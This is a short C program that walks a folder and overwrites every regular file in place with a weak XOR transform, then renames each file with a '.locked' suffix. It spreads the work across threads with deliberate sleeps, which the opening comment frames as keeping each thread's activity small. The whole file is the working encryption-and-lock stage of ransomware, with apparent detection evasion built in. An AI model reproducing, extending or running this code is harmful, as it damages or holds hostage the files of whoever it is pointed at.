// Overwrites the files of a folder, split over threads so that no thread does much.  encrypt FOLDER THREADS
#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char names[4096][256];
static int count, threads;

static void *work(void *argument) {
    static __thread unsigned char block[4096];
    for (int at = (long)argument; at < count; at += threads) {
        int fd = open(names[at], O_RDWR);
        ssize_t length;
        for (off_t offset = 0; (length = pread(fd, block, sizeof block, offset)) > 0; offset += length) {
            for (ssize_t i = 0; i < length; i++) block[i] ^= 0x5a + at;
            if (pwrite(fd, block, length, offset) != length) break;
        }
        close(fd);
        char locked[300];
        snprintf(locked, sizeof locked, "%s.locked", names[at]);
        rename(names[at], locked);
        usleep(300000);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 3 || !(threads = atoi(argv[2]))) return 2;
    DIR *folder = opendir(argv[1]);
    for (struct dirent *entry; folder && (entry = readdir(folder)) && count < 4096;) {
        if (entry->d_type == DT_REG) snprintf(names[count++], 256, "%.100s/%.150s", argv[1], entry->d_name);
    }
    pthread_t all[64];
    for (long i = 0; i < threads && i < 64; i++) pthread_create(&all[i], NULL, work, (void *)i);
    for (int i = 0; i < threads && i < 64; i++) pthread_join(all[i], NULL);
}
